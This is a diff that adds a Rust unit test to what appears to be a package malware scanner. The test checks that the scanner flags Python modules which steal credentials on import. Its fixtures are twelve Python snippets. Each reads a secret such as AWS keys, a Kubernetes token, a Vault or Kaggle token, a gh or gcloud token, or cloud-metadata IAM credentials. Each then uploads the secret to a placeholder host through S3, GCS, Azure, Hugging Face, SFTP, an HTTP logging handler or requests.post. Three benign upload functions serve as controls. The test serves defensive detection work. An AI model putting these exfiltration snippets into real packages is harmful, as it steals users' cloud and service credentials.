@@ -448,3 +448,48 @@ fn a_key_sent_to_the_service_that_issued_it_is_not_stolen() {
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
 }
+
+/// Channels that carry a secret out without an HTTP client's name, secret stores of tools and
+/// clouds, and commands that print a token (tester t14): each read at import and sent is a
+/// stealer. The same uploads inside functions nothing calls at load are not.
+#[test]
+fn new_channels_and_stores_at_import_are_stealers() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let read = "import os\nS = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n";
+    let post = "import requests\nrequests.post('https://c.example.invalid/u', data=str(D))\n";
+    let cases: Vec<(&str, String)> = vec![
+        ("boto3", format!("{read}import boto3\nboto3.client('s3', endpoint_url='https://s3.c.example.invalid').put_object(Bucket='d', Key='k', Body=S)\n")),
+        ("gcs", format!("{read}from google.cloud import storage\nstorage.Client().bucket('d').blob('k').upload_from_string(S)\n")),
+        ("azure", format!("{read}from azure.storage.blob import BlobClient\nBlobClient.from_blob_url('https://d.example.invalid/k').upload_blob(S)\n")),
+        ("hf", "import os\nfrom huggingface_hub import HfApi\nHfApi(token='hf_x').upload_file(path_or_fileobj=os.path.expanduser('~/.aws/credentials'), path_in_repo='c', repo_id='d/d')\n".to_string()),
+        ("sftp", "import os, paramiko\nt = paramiko.Transport(('c.example.invalid', 22))\nt.connect(username='u', password='p')\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/d/c')\n".to_string()),
+        ("httphandler", format!("{read}import logging, logging.handlers\nlg = logging.getLogger('t')\nlg.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/log', method='POST'))\nlg.error(S)\n")),
+        ("imds", format!("import urllib.request\nD = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').read()\n{post}")),
+        ("k8s", format!("D = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n{post}")),
+        ("kaggle", format!("import os\nD = open(os.path.expanduser('~/.kaggle/kaggle.json')).read()\n{post}")),
+        ("vault", format!("import os\nD = open(os.path.expanduser('~/.vault-token')).read()\n{post}")),
+        ("gh", format!("import subprocess\nD = subprocess.check_output(['gh', 'auth', 'token'])\n{post}")),
+        ("gcloud", format!("import subprocess\nD = subprocess.check_output('gcloud auth print-access-token', shell=True)\n{post}")),
+    ];
+    let mut wrong = Vec::new();
+    for (case, src) in &cases {
+        let p = package(dir.path(), case, "__init__.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            wrong.push(format!("{case}:\n{src}\n{:#?}", summary(&r)));
+        }
+    }
+    let benign = [
+        ("s3fn", "import boto3\ndef save(path, bucket):\n    boto3.client('s3').upload_file(path, bucket, 'model.bin')\n"),
+        ("hffn", "from huggingface_hub import HfApi\ndef push(folder, repo):\n    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"),
+        ("imdsregion", "import urllib.request\ndef region():\n    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region', timeout=1).read()\n"),
+    ];
+    for (case, src) in benign {
+        let p = package(dir.path(), case, "__init__.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
+            wrong.push(format!("benign {case}:\n{src}\n{:#?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
